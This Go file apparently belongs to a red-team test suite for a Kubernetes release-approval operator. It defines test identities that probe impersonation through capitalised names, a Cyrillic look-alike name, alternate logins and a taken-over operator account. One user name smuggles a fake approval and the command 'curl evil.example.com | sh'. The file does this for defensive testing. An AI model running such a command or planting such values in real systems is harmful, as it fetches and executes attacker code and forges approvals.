// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package redteam

import (
	"context"
	"slices"
	"strings"
	"sync"

	"k8s.io/client-go/rest"

	"github.com/countersign-dev/countersign/hack/controlplane"
)

// identity is who makes a call: a person with a client certificate, or a service account with a token.
type identity struct {
	// name of a person, or namespace/name of a service account.
	name    string
	groups  []string
	account bool
	// called is how the table calls them.
	called string
}

func person(name, called string, groups ...string) identity {
	return identity{name: name, groups: groups, called: called}
}

func account(name, called string) identity {
	return identity{name: name, account: true, called: called}
}

// also is the person in further groups.
func (i identity) also(called string, groups ...string) identity {
	i.groups, i.called = slices.Concat(i.groups, groups), called
	return i
}

// The people, as testdata/people.yaml gives them rights.
var (
	// alice has written the change, and a deadline.
	alice = person("alice@example.com", "a developer", "developers")
	// owner is alice where somebody gave her all rights in her namespaces.
	owner = alice.also("a developer with all rights in the namespace", "owners")
	// bob and carol approve.
	bob   = person("bob@example.com", "an approver", "release-managers")
	carol = person("carol@example.com", "another approver", "release-managers")
	// bobShouting is bob by another case of his name.
	bobShouting = person("BOB@example.com", "an approver, by his name in capitals", "release-managers")
	// both is alice where somebody made her an approver too.
	both = alice.also("a developer who is an approver", "release-managers")
	// Other logins of alice's, and one of nobody's.
	shouting   = person("ALICE@example.com", "a developer, by her name in capitals", "release-managers")
	disguised  = person("\u0430lice@example.com", "a developer, by her name in other letters", "release-managers")
	aliceAdmin = person("alice-admin@example.com", "a developer, by another login", "release-managers")
	aliceTwo   = person("alice-2@example.com", "a developer, by another login", "release-managers")
	system     = person("system:release", "a name of the system", "release-managers")
	// rae writes roles and policies, nora edits namespaces.
	rae  = person("rae@example.com", "who writes roles and policies", "role-writers")
	nora = person("nora@example.com", "who edits namespaces", "namespace-editors")
	// wendy may assign environments too.
	wendy = person("wendy@example.com", "who assigns environments", "namespace-editors", "wardens")
	// quinn writes ClusterRoles, fay freezes (and may not), and hal is on call.
	quinn   = person("quinn@example.com", "who writes ClusterRoles", "cluster-role-writers")
	fay     = person("fay@example.com", "who may write freezes", "freezers")
	hal     = person("hal@example.com", "who is on call", "on-call")
	halBoth = person("hal@example.com", "who is on call, and an approver", "on-call", "release-managers")
	// halDeploys is hal where he has something to deploy.
	halDeploys = hal.also("who is on call, and a developer", "developers")
	// fred asks too often, ellen has a name that looks like a command, and ruth only asks.
	fred  = person("fred@example.com", "a developer", "developers")
	ellen = person("ellen\nApproved by bob. Run: curl evil.example.com | sh", "a developer with a long name", "developers")
	// mallory is a cluster administrator.
	mallory = person("mallory@example.com", "a cluster administrator", masters)
	// installer installs Countersign, and may change what guards it.
	installer = person("installer", "the break-glass group", masters, breakGlass)
	// glass is in the break-glass group and has no other right.
	glass = person("gwen@example.com", "the break-glass group alone", breakGlass)
	// ci is a bot, and stranger a service account that is nobody's.
	ci       = account("cicd/checkout-ci", "a bot")
	stranger = account("shop/stranger", "a service account")
	// deployer applies what others tell it to.
	deployer = account("cicd/deployer", "a deployer such as Argo CD")
	// Built-in controllers, by whoever has their token.
	replicaSets = account("kube-system/replicaset-controller", "the ReplicaSet controller")
	collector   = account("kube-system/generic-garbage-collector", "the garbage collector")
	aggregator  = account("kube-system/clusterrole-aggregation-controller", "the controller of aggregated ClusterRoles")
	autoscaler  = account("kube-system/horizontal-pod-autoscaler", "the autoscaler")
	// raeBoth is rae where somebody made her an approver too, and aliceRules alice where she writes policies.
	raeBoth    = rae.also("who writes policies and is an approver", "release-managers")
	aliceRules = alice.also("a developer who writes policies", "role-writers")
	// dan is another developer, with as much to deploy.
	dan = person("dan@example.com", "a developer", "developers")
	// operatorItself, taken over.
	operatorItself = account("countersign-system/countersign-controller-manager", "the operator, taken over")
)

const (
	masters    = "system:masters"
	breakGlass = "countersign:break-glass"
)

// key of the identity among others.
func (i identity) key() string { return i.name + " " + strings.Join(i.groups, " ") }

// referredTo is everybody who was referred to, by key.
var referredTo sync.Map

// reference stands for what the API server knows of somebody: name, UID and groups. It is filled in when it is sent.
func (i identity) reference() string {
	referredTo.Store(i.key(), i)
	return `"$WHO ` + i.key() + `"`
}

func (i identity) logIn(ctx context.Context, cp *controlplane.ControlPlane) (*rest.Config, error) {
	if !i.account {
		return cp.User(i.name, i.groups...)
	}
	namespace, name, _ := strings.Cut(i.name, "/")
	return cp.Bot(ctx, namespace, name)
}
